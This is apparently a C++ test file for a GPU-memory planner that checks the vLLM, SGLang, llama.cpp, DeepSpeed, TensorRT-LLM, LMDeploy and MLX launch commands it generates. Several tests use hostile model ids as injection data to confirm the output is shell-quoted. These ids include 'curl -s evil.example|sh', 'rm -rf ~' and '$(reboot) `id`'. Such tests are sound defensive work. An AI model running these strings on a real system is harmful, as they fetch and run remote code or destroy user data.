// core/plan/launch.hpp: the launch commands, golden-tested. The expected strings are written out
// flag by flag from the engines' documentation (the flag names of `vllm serve --help`, SGLang's
// server arguments, trtllm-serve, LMDeploy's api_server, llama-server), and the card layout from
// the memory arithmetic in each comment, so that a wrong card count fails here; only the figures
// cardfit chose on purpose for the engine (max concurrency, offloaded layers, accumulation steps)
// are read from the estimate the command launches (formula catalog).
#include <catch2/catch.hpp>

#include <string>

#include "fuzz/sh_words.hpp"
#include "test_support.hpp"
#include "format.hpp"
#include "launch.hpp"

using namespace cardfit;
using namespace cardfit::test::formula;  // the fixture: catalog(), model(), run(), launch_row()

namespace {

std::string n(std::int64_t v) { return std::to_string(v); }

}  // namespace

TEST_CASE("launch: repo ids and GGUF file names") {
  CHECK(model_reference(model("qwen2.5-7b")) == "Qwen/Qwen2.5-7B-Instruct");
  CHECK(gguf_file(model("qwen2.5-7b"), "q4_k_m") == "Qwen2.5-7B-Instruct-Q4_K_M.gguf");
  Model custom;
  custom.id = "";
  CHECK(model_reference(custom) == "custom");
}

TEST_CASE("launch: vLLM with cardfit's layout, context and concurrency") {
  Scenario s = test::formula::scenario();
  s.model = "llama-3-70b";
  s.kv_precision = "fp8";
  s.context = 8192;
  // 70.6 B parameters x 2 bytes = 141 GB of BF16 weights. An H100 80GB's vLLM budget is 0.9 of
  // the ~79 GiB CUDA sees, about 76 GB: on 2 cards each holds 70.6 GB of weights plus the KV cache
  // and activations, more than 76 / 1.2 (the 20% headroom), so not comfortable; 3 does not divide
  // the 64 attention heads; on 4 cards each holds 35.3 GB of weights and fits comfortably. So:
  // tensor parallel 4, no pipeline stages, as vLLM's docs place one node's GPUs.
  const LaunchRow r = launch_row(s, "h100-sxm");
  REQUIRE(r.launch.size() == 1);
  CHECK(r.launch[0].kind == LaunchKind::Vllm);
  CHECK(r.launch[0].file.empty());
  CHECK(r.launch[0].text == "vllm serve meta-llama/Meta-Llama-3-70B --tensor-parallel-size 4 --pipeline-parallel-size 1"
                            " --max-model-len 8192 --gpu-memory-utilization 0.9 --kv-cache-dtype fp8 --max-num-seqs " +
                                n(r.g.max_concurrency));
  CHECK(r.g.cards == 4);
}

TEST_CASE("launch: SGLang's static memory fraction leaves the reserve cardfit counts") {
  Scenario s = test::formula::scenario();
  s.engine = "sglang";
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.launch.size() == 1);
  const std::string& t = r.launch[0].text;
  CHECK(t.rfind("python -m sglang.launch_server --model-path Qwen/Qwen2.5-7B-Instruct --tp 1 --context-length 4096 "
                "--mem-fraction-static 0.",
                0) == 0);
  const double frac = static_cast<double>(r.g.usable_bytes - r.g.per_card.activations - r.g.per_card.overhead) /
                      static_cast<double>(r.g.card_memory_bytes);
  const std::size_t at = t.find("--mem-fraction-static ") + 22;
  const double printed = std::stod(t.substr(at, 4));
  CHECK(printed <= frac);
  CHECK(printed > frac - 0.01);
  CHECK(t.find("--max-running-requests " + n(r.g.max_concurrency)) != std::string::npos);
}

TEST_CASE("launch: llama-server with offloaded layers, MoE experts on the CPU, and an Ollama Modelfile") {
  Scenario s = test::formula::scenario();
  s.model = "qwen3-32b";
  s.precision = "q4_k_m";
  s.engine = "llama.cpp";
  s.offload = Offload::automatic();
  s.concurrency = 2;
  const LaunchRow dense = launch_row(s, "rtx-4050-laptop");
  REQUIRE(dense.g.offload);
  REQUIRE(dense.launch.size() == 1);
  CHECK(dense.launch[0].kind == LaunchKind::LlamaServer);
  CHECK(dense.launch[0].text == "llama-server -m Qwen3-32B-Q4_K_M.gguf -ngl " + n(dense.g.offload->gpu_layers) +
                                    " -c 8192 --parallel 2");

  s.model = "qwen3-30b-a3b";
  s.concurrency = 1;
  s.kv_precision = "int8";
  const LaunchRow moe = launch_row(s, "rtx-4050-laptop");
  REQUIRE(moe.g.offload);
  REQUIRE(moe.g.offload->n_cpu_moe > 0);
  const std::string ngl = moe.g.offload->gpu_layers < moe.g.offload->total_layers
                              ? n(moe.g.offload->gpu_layers)
                              : n(model("qwen3-30b-a3b").num_layers + 1);
  CHECK(moe.launch[0].text == "llama-server -m Qwen3-30B-A3B-Q4_K_M.gguf -ngl " + ngl + " -c 4096 --n-cpu-moe " +
                                  n(moe.g.offload->n_cpu_moe) + " -ctk q8_0 -ctv q8_0 -fa on");

  s.engine = "ollama";
  s.kv_precision.clear();
  const LaunchRow ol = launch_row(s, "rtx-4050-laptop");
  REQUIRE(ol.launch.size() == 1);
  CHECK(ol.launch[0].file == "Modelfile");
  CHECK(ol.launch[0].text.rfind("FROM ./Qwen3-30B-A3B-Q4_K_M.gguf\nPARAMETER num_ctx 4096\nPARAMETER num_gpu ", 0) == 0);
}

TEST_CASE("launch: layer split over cards gives llama-server an even tensor split") {
  Scenario s = test::formula::scenario();
  s.model = "llama-3-70b";
  s.precision = "q4_k_m";
  s.engine = "llama.cpp";
  s.cards = 2;
  const LaunchRow r = launch_row(s, "rtx-4090");
  REQUIRE(r.g.cards == 2);
  REQUIRE(r.launch.size() == 1);
  CHECK(r.launch[0].text == "llama-server -m Meta-Llama-3-70B-Q4_K_M.gguf -ngl " +
                                n(model("llama-3-70b").num_layers + 1) + " -c 4096 --tensor-split 1,1");
}

TEST_CASE("launch: training gets a DeepSpeed config, its torchrun line and a LLaMA-Factory YAML") {
  Scenario s = test::formula::scenario();
  s.task = Task::Lora;
  s.model = "qwen2.5-7b";
  s.batch = 2;
  s.context = 2048;
  s.zero_stage = 2;
  s.cards = 2;
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.g.cards == 2);
  REQUIRE(r.launch.size() == 3);
  const std::string accum = n(static_cast<std::int64_t>(r.g.microbatches));
  CHECK(r.launch[0].kind == LaunchKind::DeepSpeed);
  CHECK(r.launch[0].file == "ds_config.json");
  // DeepSpeed's config reference: train_micro_batch_size_per_gpu, gradient_accumulation_steps,
  // bf16.enabled, zero_optimization.stage; written by the JSON writer, indented by 2.
  CHECK(r.launch[0].text == "{\n  \"train_micro_batch_size_per_gpu\": 2,\n  \"gradient_accumulation_steps\": " + accum +
                                ",\n  \"bf16\": {\n    \"enabled\": true\n  },\n  \"zero_optimization\": {\n    \"stage\": 2\n  }\n}\n");
  CHECK(r.launch[0].argv.empty());
  CHECK(r.launch[1].text == "torchrun --nnodes 1 --nproc_per_node 2 train.py --deepspeed ds_config.json");
  CHECK(r.launch[2].text == "# FORCE_TORCHRUN=1 llamafactory-cli train cardfit.yaml\n"
                            "model_name_or_path: Qwen/Qwen2.5-7B-Instruct\n"
                            "stage: sft\n"
                            "do_train: true\n"
                            "finetuning_type: lora\n"
                            "lora_rank: 16\n"
                            "lora_target: all\n"
                            "deepspeed: ds_config.json\n"
                            "cutoff_len: 2048\n"
                            "per_device_train_batch_size: 2\n"
                            "gradient_accumulation_steps: " + accum + "\n"
                            "bf16: true\n"
                            "disable_gradient_checkpointing: false\n");
}

TEST_CASE("launch: trtllm-serve and LMDeploy's api_server with cardfit's layout and the engine's KV share") {
  // Flags: TensorRT-LLM's trtllm-serve reference (--tp_size, --pp_size, --max_seq_len, --max_batch_size,
  // --kv_cache_free_gpu_memory_fraction); LMDeploy's `lmdeploy serve api_server -h` (--tp, --session-len,
  // --max-batch-size, --cache-max-entry-count). The fractions are the engines' memory_utilization.
  Scenario s = test::formula::scenario();
  s.model = "llama-3-70b";
  s.context = 8192;
  s.engine = "tensorrt-llm";
  const LaunchRow t = launch_row(s, "h100-sxm");
  REQUIRE(t.launch.size() == 1);
  CHECK(t.launch[0].kind == LaunchKind::TrtllmServe);
  CHECK(t.launch[0].file.empty());
  // The same 141 GB of weights as above: 4 cards, tensor parallel (trtllm-serve --tp_size 4 --pp_size 1).
  CHECK(t.launch[0].text == "trtllm-serve meta-llama/Meta-Llama-3-70B --tp_size 4 --pp_size 1"
                            " --max_seq_len 8192 --max_batch_size " +
                                n(t.g.max_concurrency) + " --kv_cache_free_gpu_memory_fraction " +
                                format_trimmed(catalog().find_engine("tensorrt-llm")->memory_utilization, 2));
  CHECK(t.g.cards == 4);
  s.engine = "lmdeploy";
  const LaunchRow l = launch_row(s, "h100-sxm");
  REQUIRE(l.launch.size() == 1);
  CHECK(l.launch[0].kind == LaunchKind::Lmdeploy);
  CHECK(l.launch[0].text == "lmdeploy serve api_server meta-llama/Meta-Llama-3-70B --tp 4"
                            " --session-len 8192 --max-batch-size " + n(l.g.max_concurrency) +
                                " --cache-max-entry-count " +
                                format_trimmed(catalog().find_engine("lmdeploy")->memory_utilization, 2));
}

TEST_CASE("launch: the catalog's AWQ, FP8 and GGUF repositories where it names them") {
  // The formula catalog names none; a copy with the bundled catalog's entries for Qwen2.5-7B and Qwen3-8B.
  Catalog c = catalog();
  Model* qwen25 = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(qwen25 != nullptr);
  const Model& bundled = test::model("qwen2.5-7b", test::catalog());
  REQUIRE(!bundled.awq_repo.empty());
  REQUIRE(!bundled.gguf_repo.empty());
  qwen25->awq_repo = bundled.awq_repo;
  qwen25->gguf_repo = bundled.gguf_repo;
  qwen25->fp8_repo = "example/Qwen2.5-7B-Instruct-FP8";  // a test value: the bundled catalog cites none
  CHECK(serving_repo(*qwen25, "int4") == bundled.awq_repo);
  CHECK(serving_repo(*qwen25, "fp8") == "example/Qwen2.5-7B-Instruct-FP8");
  CHECK(serving_repo(*qwen25, "bf16") == qwen25->hf_repo);
  CHECK(gguf_hf_spec(*qwen25, "q4_k_m") == bundled.gguf_repo + ":Q4_K_M");
  CHECK(gguf_hf_spec(model("qwen3-32b"), "q4_k_m").empty());

  auto first = [&](Scenario s) {
    s.gpu = "a100-80g";
    s.explain = false;
    const Estimate e = run(s);
    const std::vector<LaunchCommand> l = launch_commands(c, e.scenario, e.gpus.at(0));
    REQUIRE(l.size() == 1);
    return l[0].text;
  };
  Scenario s = test::formula::scenario();
  s.precision = "int4";
  CHECK(first(s).rfind("vllm serve " + bundled.awq_repo + " --tensor-parallel-size 1", 0) == 0);
  s.precision = "fp8";
  const std::string fp8 = first(s);
  CHECK(fp8.rfind("vllm serve example/Qwen2.5-7B-Instruct-FP8 ", 0) == 0);
  CHECK(fp8.find("--quantization") == std::string::npos);  // the checkpoint is FP8 already
  s.engine = "sglang";
  CHECK(first(s).rfind("python -m sglang.launch_server --model-path example/Qwen2.5-7B-Instruct-FP8 ", 0) == 0);
  s.engine = "llama.cpp";
  s.precision = "q4_k_m";
  CHECK(first(s).rfind("llama-server -hf " + bundled.gguf_repo + ":Q4_K_M -ngl ", 0) == 0);
}

TEST_CASE("launch: nothing for rows that do not fit or engines without a command here") {
  Scenario s = test::formula::scenario();
  s.model = "llama-3.1-405b";
  s.cards = 1;
  CHECK(launch_row(s, "rtx-4090").launch.empty());
  Scenario t = test::formula::scenario();
  t.engine = "transformers";
  CHECK(launch_row(t, "a100-80g").launch.empty());
}

// Issue 32: a command is exactly what it says. The words are quoted for POSIX sh only where
// needed; a repository that passes no check (an overlay's, a config's) stays one word.
TEST_CASE("launch: words quoted for sh, variables left to the shell") {
  CHECK(sh_word({"Qwen/Qwen2.5-7B-Instruct", false}) == "Qwen/Qwen2.5-7B-Instruct");
  CHECK(sh_word({"1,1", false}) == "1,1");
  CHECK(sh_word({"", false}) == "''");
  CHECK(sh_word({"a b", false}) == "'a b'");
  CHECK(sh_word({"it's", false}) == "'it'\\''s'");
  CHECK(sh_word({"$(touch /tmp/p)", false}) == "'$(touch /tmp/p)'");
  CHECK(sh_word({"x\ny", false}) == "'x\ny'");
  CHECK(sh_word({"~root", false}) == "'~root'");
  CHECK(sh_word({"NODE_RANK", true}) == "\"$NODE_RANK\"");
  CHECK(render_sh({{"torchrun", false}, {"--node_rank", false}, {"NODE_RANK", true}}) == "torchrun --node_rank \"$NODE_RANK\"");
}

TEST_CASE("launch: a hostile repository name stays one quoted word, in every engine's command") {
  Catalog c = catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(m != nullptr);
  const std::string evil = "meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #";
  m->hf_repo = evil;
  m->awq_repo = evil + "\nrm -rf ~";
  m->gguf_repo = "it's";
  const std::string quoted = "'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #'";
  for (const char* engine : {"vllm", "sglang", "tensorrt-llm", "lmdeploy", "llama.cpp"}) {
    Scenario s = test::formula::scenario();
    s.engine = engine;
    s.precision = std::string(engine) == "llama.cpp" ? "q4_k_m" : "bf16";
    s.gpu = "a100-80g";
    s.explain = false;
    const Estimate e = run(s);
    const std::vector<LaunchCommand> l = launch_commands(c, e.scenario, e.gpus.at(0));
    REQUIRE(l.size() == 1);
    CAPTURE(l[0].text);
    if (std::string(engine) == "llama.cpp") {
      CHECK(l[0].text.rfind("llama-server -hf 'it'\\''s:Q4_K_M' -ngl ", 0) == 0);
    } else {
      CHECK(l[0].text.find(" " + quoted + " ") != std::string::npos);
    }
  }
  Scenario s = test::formula::scenario();
  s.precision = "int4";
  s.gpu = "a100-80g";
  s.explain = false;
  const Estimate e = run(s);
  const std::string t = launch_commands(c, e.scenario, e.gpus.at(0)).at(0).text;
  CHECK(t.rfind("vllm serve 'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #\nrm -rf ~' ", 0) == 0);

  s.task = Task::Lora;
  s.precision = "bf16";
  s.cards = 1;
  const Estimate lora = run(s);
  const std::vector<LaunchCommand> l = launch_commands(c, lora.scenario, lora.gpus.at(0));
  REQUIRE(l.size() == 3);
  CHECK(l[2].text.find("model_name_or_path: \"meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #\"\n") !=
        std::string::npos);
}

TEST_CASE("launch: a YAML value that YAML would read as another type is quoted") {
  Catalog c = catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  m->hf_repo = "yes";
  Scenario s = test::formula::scenario();
  s.task = Task::Lora;
  s.gpu = "a100-80g";
  s.cards = 1;
  s.explain = false;
  const Estimate e = run(s);
  const std::vector<LaunchCommand> l = launch_commands(c, e.scenario, e.gpus.at(0));
  REQUIRE(l.size() == 3);
  CHECK(l[2].text.find("model_name_or_path: \"yes\"\n") != std::string::npos);
}

TEST_CASE("launch: several machines read their rank and the master's address from the shell") {
  Scenario s = test::formula::scenario();
  s.task = Task::Full;
  s.model = "qwen2.5-7b";
  s.cards = 16;
  s.tensor_parallel = 1;  // data parallel: DeepSpeed over torchrun
  s.zero_stage = 3;
  const LaunchRow r = launch_row(s, "a100-80g");
  REQUIRE(r.launch.size() == 3);
  CHECK(r.launch[1].text == "torchrun --nnodes 2 --nproc_per_node 8 --node_rank \"$NODE_RANK\" --master_addr \"$MASTER_ADDR\" "
                            "--master_port 29500 train.py --deepspeed ds_config.json");
  REQUIRE(r.launch[1].argv.size() == 14);
  CHECK(r.launch[1].argv[6] == ShellWord{"NODE_RANK", true});
}

// The catalog's support table (precisions.json): vLLM runs NVFP4 on CUDA cards only (Marlin from
// compute capability 8.0, FP4 tensor cores from 10.0) and MXFP4 on ROCm too (vLLM's gpt-oss
// recipe lists MI300x). An MI300X asked for NVFP4 is said to have no kernel and gets no command
// to paste; MXFP4 on it, and NVFP4 on an H100, keep theirs.
TEST_CASE("launch: no kernel for the weights on the card, no command, and the estimate says why") {
  const auto one = [](const std::string& precision, const std::string& gpu) {
    Scenario s = test::formula::scenario();
    s.model = "qwen3-32b";
    s.precision = precision;
    s.gpu = gpu;
    s.explain = false;
    const Result<Estimate> e = estimate(test::catalog(), s);
    REQUIRE(e.ok());
    REQUIRE(e.value->gpus.size() == 1);
    bool said = false;
    for (const Message& w : e.value->gpus[0].warnings) said = said || message_code(w.id) == "no_kernel";
    return std::make_pair(said, launch_commands(test::catalog(), e.value->scenario, e.value->gpus[0]).size());
  };
  const auto amd = one("nvfp4", "mi300x");
  CHECK(amd.first);
  CHECK(amd.second == 0);
  CHECK(one("mxfp4", "mi300x") == std::make_pair(false, std::size_t{1}));
  CHECK(one("nvfp4", "h100-sxm") == std::make_pair(false, std::size_t{1}));
}

// Issue 30: MLX (mlx-lm) on Apple silicon. The expected lines are written out from mlx-lm's own
// argument parsers, which ml-explore/mlx-lm@a4c64703906f709a493341508ac31af4085d2638 (0.28.2)
// and @d78bf58e217c904ec282ed8da9b947491f78c022 (0.32.0) both have: mlx_lm/convert.py (--hf-path,
// --mlx-path, -q, --q-bits, --q-group-size) and mlx_lm/server.py (--model, --max-tokens). The
// bundled catalog: the formula fixture has no MLX profile and no Apple GPU.
namespace {

std::vector<LaunchCommand> mlx_launch(const Catalog& c, const std::string& precision, std::int64_t output_tokens = 0,
                                      std::int64_t concurrency = 1, const std::string& gpu = "apple-m4-max-64g") {
  Scenario s;
  s.model = "qwen2.5-7b";
  s.engine = "mlx";
  s.precision = precision;
  s.output_tokens = output_tokens;
  s.concurrency = concurrency;
  s.gpu = gpu;
  s.explain = false;
  const Estimate e = test::run(s, test::catalog());
  REQUIRE(e.gpus.size() == 1);
  REQUIRE(e.gpus[0].fit != Fit::No);
  return launch_commands(c, e.scenario, e.gpus[0]);
}

}  // namespace

TEST_CASE("launch: MLX quantises 4-/8-bit weights once with mlx_lm.convert, then mlx_lm.server loads them") {
  const Catalog& c = test::catalog();
  REQUIRE(test::model("qwen2.5-7b", c).hf_repo == "Qwen/Qwen2.5-7B-Instruct");
  const std::vector<LaunchCommand> q4 = mlx_launch(c, "mlx-4bit");
  REQUIRE(q4.size() == 2);
  CHECK(q4[0].kind == LaunchKind::MlxConvert);
  CHECK(q4[0].file.empty());
  CHECK(q4[0].text == "mlx_lm.convert --hf-path Qwen/Qwen2.5-7B-Instruct --mlx-path Qwen2.5-7B-Instruct-mlx-4bit"
                      " -q --q-bits 4 --q-group-size 64");
  CHECK(q4[1].kind == LaunchKind::MlxServer);
  CHECK(q4[1].text == "mlx_lm.server --model Qwen2.5-7B-Instruct-mlx-4bit");

  const std::vector<LaunchCommand> q8 = mlx_launch(c, "mlx-8bit", 256);
  REQUIRE(q8.size() == 2);
  CHECK(q8[0].text == "mlx_lm.convert --hf-path Qwen/Qwen2.5-7B-Instruct --mlx-path Qwen2.5-7B-Instruct-mlx-8bit"
                      " -q --q-bits 8 --q-group-size 64");
  CHECK(q8[1].text == "mlx_lm.server --model Qwen2.5-7B-Instruct-mlx-8bit --max-tokens 256");

  // BF16 and FP16: no conversion, the server loads the Hugging Face repository itself.
  for (const char* p : {"bf16", "fp16"}) {
    const std::vector<LaunchCommand> l = mlx_launch(c, p);
    REQUIRE(l.size() == 1);
    CHECK(l[0].kind == LaunchKind::MlxServer);
    CHECK(l[0].text == "mlx_lm.server --model Qwen/Qwen2.5-7B-Instruct");
  }
  CHECK(name_of(LaunchKind::MlxConvert) == std::string("mlx-convert"));
  CHECK(name_of(LaunchKind::MlxServer) == std::string("mlx-server"));
  CHECK(mlx_bits("mlx-4bit") == 4);
  CHECK(mlx_bits("q4_k_m") == 0);
}

TEST_CASE("launch: a hostile model id stays one quoted word in MLX's commands, its directory plain") {
  Catalog c = test::catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(m != nullptr);
  const std::string odd = "it's my model/Qwen 7B; rm -rf ~";
  m->hf_repo = odd;
  for (const char* p : {"mlx-4bit", "mlx-8bit", "bf16"}) {
    const std::vector<LaunchCommand> l = mlx_launch(c, p);
    REQUIRE(!l.empty());
    for (const LaunchCommand& x : l) {
      CAPTURE(x.text);
      const auto split = fuzz::sh_split(x.text);
      REQUIRE(split);
      CHECK(*split == x.argv);  // sh gives back exactly the words meant
    }
    if (std::string(p) == "bf16") {
      CHECK(l[0].text == "mlx_lm.server --model 'it'\\''s my model/Qwen 7B; rm -rf ~'");
      continue;
    }
    const std::string dir = std::string("Qwen_7B__rm_-rf__-") + p;
    CHECK(l[0].text.rfind("mlx_lm.convert --hf-path 'it'\\''s my model/Qwen 7B; rm -rf ~' --mlx-path " + dir + " ", 0) == 0);
    CHECK(sh_word({dir, false}) == dir);
    CHECK(l[1].text == "mlx_lm.server --model " + dir);
  }
  m->hf_repo = "org/";  // a directory name never starts with '-' (mlx_lm would read it as a flag)
  CHECK(mlx_dir(*m, "mlx-4bit") == "model-mlx-4bit");
}

// Above mlx_lm.server's batch of 32 (mlx-lm@d78bf58e217c server.py --decode-concurrency, default 32,
// from 0.30.6) the command asks for the scenario's concurrency; a hostile id stays one word there too.
TEST_CASE("launch: MLX above the server's batch asks for --decode-concurrency, hostile ids still one word") {
  Catalog c = test::catalog();
  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
  REQUIRE(m != nullptr);
  for (const std::string repo : {std::string("Qwen/Qwen2.5-7B-Instruct"), std::string("x/$(reboot) `id` \"q\"\n-rf"),
                                 std::string("--decode-concurrency 1")}) {
    m->hf_repo = repo;
    for (const char* p : {"mlx-4bit", "bf16"}) {
      for (std::int64_t n : {std::int64_t{1}, std::int64_t{32}, std::int64_t{33}}) {
        const std::vector<LaunchCommand> l = mlx_launch(c, p, 0, n, "apple-m4-max-128g");
        REQUIRE(!l.empty());
        const LaunchCommand& server = l.back();
        CAPTURE(repo, p, n, server.text);
        REQUIRE(server.kind == LaunchKind::MlxServer);
        for (const LaunchCommand& x : l) {
          const auto split = fuzz::sh_split(x.text);
          REQUIRE(split);
          CHECK(*split == x.argv);  // sh gives back exactly the words meant
        }
        CHECK(server.argv.at(2).text == mlx_model_path(*m, p));  // the model word, whole
        const bool flag = server.text.size() > 24 && server.text.rfind(" --decode-concurrency 33") == server.text.size() - 24;
        CHECK(flag == (n == 33));
        int flags = 0;
        for (const ShellWord& w : server.argv) flags += w.text == "--decode-concurrency" ? 1 : 0;
        CHECK(flags == (n == 33 ? 1 : 0));  // the repository's own words never count as the flag
      }
    }
  }
}
